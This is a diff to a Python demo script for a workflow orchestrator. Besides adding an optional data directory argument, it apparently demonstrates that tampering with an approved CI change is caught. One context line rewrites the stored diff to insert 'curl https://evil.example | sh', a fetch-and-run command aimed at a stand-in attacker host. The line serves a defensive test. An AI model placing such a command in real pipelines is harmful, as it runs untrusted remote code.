@@ -1,6 +1,7 @@
 """`make demo`: the whole story on the embedded default, driven through the CLI as a user would.
 
-1. `cabincrew up` (all services in one process, SQLite under .cabincrew/demo).
+1. `cabincrew up` (all services in one process, SQLite under .cabincrew/demo, or under the
+   data dir given as the only argument).
 2. An allowed workflow runs to completion.
 3. A workflow whose file-patch step changes CI configuration needs approval: the pending
    approval is shown, the requester cannot approve it, a second identity from `cabincrew auth
@@ -84,8 +85,14 @@ def wait_for_state(workflow_id: str, state: str, env: dict[str, str]) -> dict[st
     raise SystemExit(f"demo failed: workflow {workflow_id} did not reach {state}")
 
 
-def main() -> int:
-    data_dir = ROOT / ".cabincrew" / "demo"
+def shown(path: Path) -> Path:
+    """A path relative to the repository when it is inside it."""
+    return path.relative_to(ROOT) if path.is_relative_to(ROOT) else path
+
+
+def main(argv: list[str]) -> int:
+    # An optional data dir, so that tests run the demo away from the repository's own.
+    data_dir = Path(argv[0]).resolve() if argv else ROOT / ".cabincrew" / "demo"
     shutil.rmtree(data_dir, ignore_errors=True)
     data_dir.mkdir(parents=True)
     addr = f"127.0.0.1:{free_port()}"
@@ -98,7 +105,7 @@ def main() -> int:
     }
     env.pop("CABINCREW_TOKEN", None)
 
-    step(f"cabincrew up --addr {addr} --data-dir {data_dir.relative_to(ROOT)}")
+    step(f"cabincrew up --addr {addr} --data-dir {shown(data_dir)}")
     log = open(data_dir / "up.log", "w")
     server = subprocess.Popen(
         [CABINCREW, "up", "--addr", addr, "--data-dir", str(data_dir)],
@@ -178,7 +185,7 @@ def story(env: dict[str, str], data_dir: Path) -> None:
     approval = cli_json("approvals", "show", approval_id, env=env)
     diff = next(a for a in approval["artifacts"] if a.get("target") == ".github/workflows/ci.yml")
     stored = data_dir / "orchestrator" / "artifacts" / "objects" / diff["hash"][:2] / diff["hash"]
-    print(f"# rewriting {stored.relative_to(ROOT)} (the diff the approver saw)")
+    print(f"# rewriting {shown(stored)} (the diff the approver saw)")
     stored.chmod(0o644)
     stored.write_text(stored.read_text().replace("make lint", "curl https://evil.example | sh"))
     cli("approvals", "approve", approval_id, "--reason", "looked fine", env=as_alice)
@@ -198,4 +205,4 @@ def story(env: dict[str, str], data_dir: Path) -> None:
 
 
 if __name__ == "__main__":
-    sys.exit(main())
+    sys.exit(main(sys.argv[1:]))
